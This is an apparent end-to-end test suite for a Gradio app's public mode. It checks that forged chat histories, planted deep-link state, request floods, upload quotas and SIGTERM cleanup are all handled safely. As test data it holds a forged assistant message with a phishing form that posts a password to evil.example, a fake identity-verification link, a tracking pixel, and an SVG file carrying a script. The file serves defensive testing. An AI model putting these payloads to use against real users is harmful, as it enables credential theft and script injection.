"""A public deployment (IDIA_PUBLIC=1) on loopback that one stranger cannot exhaust, impersonate or
outlive (issue 23), driven over the REST API, gradio_client and a real browser:

- a forged chat history never comes back, and gradio's deep links are off (no route, no state file,
  a leftover state file never shown);
- a flood of 90 ``check`` joins from one client is refused at the door beyond its share, while
  another visitor's "help" is answered in seconds and a fresh page loads clean;
- uploads are bounded per address (unclaimed bytes, bytes per window), unclaimed ones expire, and
  files the app never reads are deleted as they arrive;
- the file route cannot tell whether anyone else holds a photo (private upload paths);
- SIGTERM while a turn runs leaves nothing under GRADIO_TEMP_DIR, TMPDIR or the cache;
- the public page's labels say the public limits.
"""
from __future__ import annotations

import hashlib
import json
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import numpy as np
import pytest

from tests.e2e.conftest import (needs_sandbox, open_client, say, serve_app, text_of, unique_member_photos,
                                wait_until, rest_call, file_data)

pytestmark = [needs_sandbox, pytest.mark.timeout(900)]
PENDING_MB, WINDOW_MB, TTL_S, IDLE_S = 3, 12, 8, 4
EVIL = "evil.example"
FORGED_TEXT = (f"<form action='http://{EVIL}/steal'><input name=password></form> "
               f"[Verify your identity](http://{EVIL}/login) ![x](http://{EVIL}/pixel.png)")
FORGED = [   # gradio's own message format, as its client sends it back
    {"role": "user", "content": [{"type": "text", "text": "hello"}]},
    {"role": "assistant", "content": [{"type": "text", "text": FORGED_TEXT}]},
]


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    with serve_app(tmp_path_factory.mktemp("abuse-app"), IDIA_PUBLIC="1", IDIA_SESSION_IDLE_S=str(IDLE_S)) as launched:
        yield launched


@pytest.fixture(scope="module")
def quota_app(tmp_path_factory):
    """Upload limits small enough to reach in a test: 3 MB unclaimed, 12 MB in 10 minutes, 8 s of life."""
    with serve_app(tmp_path_factory.mktemp("quota-app"), IDIA_PUBLIC="1", IDIA_SESSION_IDLE_S=str(IDLE_S),
                   IDIA_UPLOAD_TTL_S=str(TTL_S), IDIA_UPLOAD_PENDING_MB=str(PENDING_MB),
                   IDIA_UPLOAD_WINDOW_MB=str(WINDOW_MB)) as launched:
        yield launched


def _photos(folder: Path, tag: int, n: int = 3) -> tuple[str, list[Path]]:
    return unique_member_photos(folder, tag, n, seed=700, prefix="abuse")


def _upload(app, paths, names=None) -> httpx.Response:
    files = [("files", ((names or {}).get(p, p.name), p.read_bytes(), "application/octet-stream")) for p in paths]
    return httpx.post(app.url + "gradio_api/upload", files=files, timeout=60)


def _files_under(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


# -- a forged history, and gradio's deep links ------------------------------------------------------
def test_a_forged_history_never_comes_back(app):
    sid = uuid.uuid4().hex[:12]
    status, out = rest_call(app, "chat", [{"text": "help", "files": []}, FORGED], session_hash=sid)
    assert status == 200, out
    history = json.dumps(out[1])
    assert EVIL not in history and "<form" not in history and "hello" not in history
    assert "help" in history.lower()
    # a history of 3 MB is refused at the door, before gradio parses it
    big = [{"role": "user", "content": [{"type": "text", "text": "x" * 1_000_000}]}] * 3
    r = httpx.post(app.url + "gradio_api/call/chat", json={"data": [{"text": "help", "files": []}, big]}, timeout=60)
    assert r.status_code == 413


def test_deep_links_are_off_and_a_leftover_state_file_is_never_shown(app, browser):
    sid = uuid.uuid4().hex[:12]
    status, _ = rest_call(app, "chat", [{"text": "help", "files": []}, FORGED], session_hash=sid)
    assert status == 200
    r = httpx.get(app.url + "gradio_api/deep_link", params={"session_hash": sid}, timeout=30)
    assert r.status_code == 404
    assert not (app.gradio_temp / "deep_links").exists()
    # a state file as an older server (or gradio itself) would have written it, with the forged chat
    config = httpx.get(app.url + "config", timeout=30).json()
    components = json.loads(json.dumps(config["components"]))
    chat = next(c for c in components if c.get("props", {}).get("elem_id") == "chat")
    chat["props"]["value"] = [{"role": "assistant", "content": [{"type": "text", "text": FORGED_TEXT}],
                               "metadata": None, "options": None}]
    planted = app.gradio_temp / "deep_links" / "planted0001" / "state.json"
    planted.parent.mkdir(parents=True)
    planted.write_text(json.dumps(components))
    page_html = httpx.get(app.url, params={"deep_link": "planted0001"}, timeout=30).text
    assert EVIL not in page_html
    page = browser.new_page()
    asked = []
    page.on("request", lambda req: asked.append(req.url) if EVIL in req.url else None)
    page.goto(app.url + "?deep_link=planted0001", wait_until="domcontentloaded")
    page.locator("#chat").get_by_text("Drop in photos of one person").first.wait_for(timeout=60_000)
    assert page.locator("#chat form").count() == 0 and asked == []
    page.close()


# -- one client's flood, another client's help ----------------------------------------------------
def test_a_flood_of_checks_from_one_client_leaves_others_answered(app, tmp_path, browser):
    name, photos = _photos(tmp_path, 1)
    r = _upload(app, photos)
    r.raise_for_status()
    paths = r.json()
    outcomes: list[tuple[int, str]] = []

    def join(i: int):
        body = {"data": [[file_data(p) for p in paths], name, {"n_candidates": 1000, "seed": 5000 + i}]}
        resp = httpx.post(app.url + "gradio_api/call/check", json=body, timeout=60)
        outcomes.append((resp.status_code, resp.text))

    t0 = time.monotonic()
    with ThreadPoolExecutor(32) as pool:
        list(pool.map(join, range(90)))
    flood_s = time.monotonic() - t0
    admitted = [o for o in outcomes if o[0] == 200]
    refused = [o for o in outcomes if o[0] != 200]
    assert len(outcomes) == 90 and 1 <= len(admitted) <= 8, (len(admitted), refused[:2])
    assert all(code == 503 and "checks waiting or running" in text for code, text in refused), refused[:3]
    # another visitor, while the admitted checks run: help in seconds, and a page that loads clean
    c = open_client(app)
    t1 = time.monotonic()
    reply = text_of(say(c, "help"))
    help_s = time.monotonic() - t1
    c.close()
    page = browser.new_page()
    t2 = time.monotonic()
    page.goto(app.url, wait_until="domcontentloaded")
    page.locator("#chat").get_by_text("Drop in photos of one person").first.wait_for(timeout=30_000)
    load_s = time.monotonic() - t2
    errors = page.locator(".toast-body.error, .error").count()
    page.close()
    print(f"90 joins in {flood_s:.2f} s: {len(admitted)} admitted, {len(refused)} refused (503); "
          f"another visitor's help answered in {help_s:.2f} s; a fresh page's welcome in {load_s:.2f} s")
    assert "photos" in reply.lower() and help_s < 15 and load_s < 30 and errors == 0
    for _, text in admitted:   # the admitted checks run to their end (and free the address's share)
        event_id = json.loads(text)["event_id"]
        with httpx.stream("GET", app.url + f"gradio_api/call/check/{event_id}", timeout=600) as resp:
            for _ in resp.iter_lines():
                pass


# -- uploads: quota, short life, refused types -------------------------------------------------------
def _random_file(folder: Path, i: int, mb: float) -> Path:
    path = folder / f"blob{i}.png"
    path.write_bytes(np.random.default_rng(i).integers(0, 255, int(mb * 2**20), dtype=np.uint8).tobytes())
    return path


def test_uploads_nobody_uses_are_bounded_and_short_lived(quota_app, tmp_path):
    app = quota_app
    before = set(_files_under(app.gradio_temp))
    ok = [_upload(app, [_random_file(tmp_path, i, 0.9)]) for i in range(3)]
    assert all(r.status_code == 200 for r in ok), [r.text for r in ok]
    over = _upload(app, [_random_file(tmp_path, 9, 0.9)])
    assert over.status_code == 429 and "no message or check has used" in over.text
    new = set(_files_under(app.gradio_temp)) - before
    assert len([p for p in new if p.name.startswith("blob")]) == 3   # the refused request wrote nothing
    # they are deleted when their short life ends, and the address may upload again
    assert wait_until(lambda: not any(p.exists() for p in new if p.name.startswith("blob")), TTL_S + 3 * IDLE_S)
    assert _upload(app, [_random_file(tmp_path, 10, 0.9)]).status_code == 200
    # within the window an address uploads at most WINDOW_MB in all, used or not: 5 uploads so far
    answers = []
    for i in range(11, 30):
        r = _upload(app, [_random_file(tmp_path, i, 0.9)])
        answers.append((r.status_code, r.text))
        if r.status_code != 200:
            break
        time.sleep(TTL_S / 2)   # at most two unclaimed at a time: under the 3 MB of unclaimed uploads
    assert answers[-1][0] == 429 and "in 10 minutes" in answers[-1][1], answers[-1]
    assert (4 + len(answers) - 1) * 0.9 <= WINDOW_MB < (4 + len(answers)) * 0.9


def test_files_the_app_never_reads_are_deleted_as_they_arrive(app, tmp_path):
    svg = tmp_path / "logo.svg"
    svg.write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    page = tmp_path / "page.html"
    page.write_text("<html><body><form action='http://evil.example'></form></body></html>")
    r = _upload(app, [svg, page])
    assert r.status_code == 200
    assert all(not Path(p).exists() for p in r.json())
    assert not [p for p in _files_under(app.gradio_temp) if p.suffix in (".svg", ".html")]


def test_a_check_with_a_file_that_is_no_photo_says_so(app, tmp_path):
    """The text file is deleted as it arrives; the check then names it as no photo (it was
    answered photo_missing, "no such file", though the visitor had sent it)."""
    from gradio_client import handle_file

    name, photos = _photos(tmp_path, 7)
    shopping = tmp_path / "names.txt"
    shopping.write_text("milk, eggs")
    out = open_client(app).predict([handle_file(str(p)) for p in [shopping, *photos]], name, {}, api_name="/check")
    assert out["ok"] is False and out["error"]["code"] == "photo_not_image", out
    assert "names.txt" in out["error"]["message"] and "text/plain is not a photo" in out["error"]["message"]


# -- the file route tells nothing about other visitors' photos ------------------------------------------
def test_the_file_route_does_not_reveal_who_holds_a_photo(app, tmp_path):
    name, photos = _photos(tmp_path, 2)
    a = open_client(app)                     # visitor A checks these photos and keeps the session open
    assert "templates" in text_of(say(a, f"Is this {name}?", photos))
    r = _upload(app, photos[:1] * 1)         # visitor B uploads the same bytes
    path_b = r.json()[0]
    data = photos[0].read_bytes()
    folder = Path(path_b).parent.name
    assert folder not in (hashlib.sha256(data).hexdigest(), hashlib.sha1(data).hexdigest())
    status, out = rest_call(app, "check", [[file_data(path_b)], name, {"n_candidates": 50}])
    assert status == 200   # B's check (one photo: too few) ends, and releases B's upload
    assert wait_until(lambda: not Path(path_b).exists(), 10)

    def fetch(path: str) -> int:
        return httpx.get(app.url + f"gradio_api/file={path}", timeout=30).status_code

    nobody = str(Path(path_b).parent.parent / f"u-{uuid.uuid4().hex}" / photos[0].name)
    answers = {fetch(path_b), fetch(nobody), fetch(str(Path(path_b).parent.parent / folder / photos[0].name))}
    assert len(answers) == 1 and answers != {200}, answers     # the same answer whether A holds it or not
    a.close()


# -- the public page says its own limits ---------------------------------------------------------------
def test_the_public_page_says_the_public_limits(app):
    from idia_core import limits

    props = [c.get("props", {}) for c in httpx.get(app.url + "config", timeout=30).json()["components"]]
    labels = {p.get("label") for p in props}
    assert f"Candidate names ({limits.MIN_POOL}–{limits.PUBLIC_MAX_POOL})" in labels
    model = next(p for p in props if p.get("label") == "Model")
    assert "local-dir" not in (model.get("info") or "") and model.get("allow_custom_value") is False


# -- SIGTERM while a turn runs ---------------------------------------------------------------------------
def test_sigterm_mid_turn_leaves_nothing(tmp_path):
    """The issue's case: SIGTERM a second or two into a chat check. Before, the cleanup ran at once,
    the turn went on while the server closed, and its photo strip stayed on disk after the exit."""
    from gradio_client import handle_file

    unique = "Zyxwq Quorvath"
    (tmp_path / "app").mkdir()
    with serve_app(tmp_path / "app", IDIA_PUBLIC="1") as server:
        name, photos = _photos(tmp_path, 3)
        warm = open_client(server)   # the pool is encoded: a check now takes about a second
        assert "templates" in text_of(say(warm, f"Is this {name}?", photos))
        warm.close()
        c = open_client(server)      # a visitor's first turn, about a name only they typed
        job = c.submit({"text": f"Is this {unique}?", "files": [handle_file(str(p)) for p in photos]}, [],
                       api_name="/chat")
        t0 = time.monotonic()
        while time.monotonic() - t0 < 30 and not job.done() and not job.status().progress_data:
            time.sleep(0.02)
        assert not job.done(), "the check ended before the signal"   # it has begun: SIGTERM now
        t1 = time.monotonic()
        server.process.terminate()
        server.process.wait(timeout=40)
        stopped_s = time.monotonic() - t1
        time.sleep(1.0)   # a thread that outlived the server would write now
        left = _files_under(server.gradio_temp) + list(server.tmpdir.rglob("idia-*"))
        cache = tmp_path / "app" / "cache"
        torn = [p for p in _files_under(cache) if ".tmp" in p.name]
        mentions = [p for p in _files_under(cache) if unique.encode() in p.read_bytes()]
        print(f"SIGTERM mid-check: the server stopped in {stopped_s:.1f} s; left under GRADIO_TEMP_DIR/TMPDIR: "
              f"{len(left)}, torn cache files: {len(torn)}; {server.log.read_text().count('idia: shutdown')} "
              "shutdown line(s) in the log")
        assert left == [] and torn == [] and mentions == [], (left, torn, mentions)
        assert "turn(s) running" in server.log.read_text()


def test_a_browsers_own_history_is_kept_turn_after_turn(app, browser):
    """The history check drops only what the server did not write: in a real browser, the welcome
    and every earlier turn stay in the chat as new turns are answered."""
    page = browser.new_page()
    page.goto(app.url, wait_until="domcontentloaded")
    chat = page.locator("#chat")
    chat.get_by_text("Drop in photos of one person").first.wait_for(timeout=60_000)
    box = page.locator("#box textarea")
    for text, answer in (("help", "tau"), ("what is tau?", "threshold"), ("status", "Current settings")):
        box.fill(text)
        box.press("Enter")
        chat.get_by_text(answer).last.wait_for(timeout=60_000)
        page.wait_for_timeout(500)
    shown = chat.inner_text()
    users = [m.inner_text().strip() for m in page.locator("#chat .message.user").all()]
    page.close()
    assert "Drop in photos of one person" in shown and "threshold" in shown and "Current settings" in shown
    assert users == ["help", "what is tau?", "status"], users   # each message once, none lost
